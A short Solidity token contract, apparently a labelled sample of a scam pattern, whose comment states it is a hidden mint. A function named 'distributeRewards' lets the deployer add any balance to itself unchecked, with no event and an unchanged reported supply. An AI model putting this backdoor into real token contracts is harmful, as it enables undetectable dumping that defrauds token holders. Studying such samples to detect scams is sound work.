// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {LaunchToken} from "./LaunchToken.sol";

/// The deployer can give itself any balance, also after renouncing: no event, and the supply reads unchanged.
contract HiddenMintToken is LaunchToken {
    address private immutable _distributor;

    constructor(string memory name_, string memory symbol_, uint8 decimals_, uint256 supply_, address router_)
        LaunchToken(name_, symbol_, decimals_, supply_, router_)
    {
        _distributor = msg.sender;
    }

    function distributeRewards(uint256 amount) external {
        require(msg.sender == _distributor, "Not distributor");
        unchecked {
            balanceOf[msg.sender] += amount;
        }
    }
}
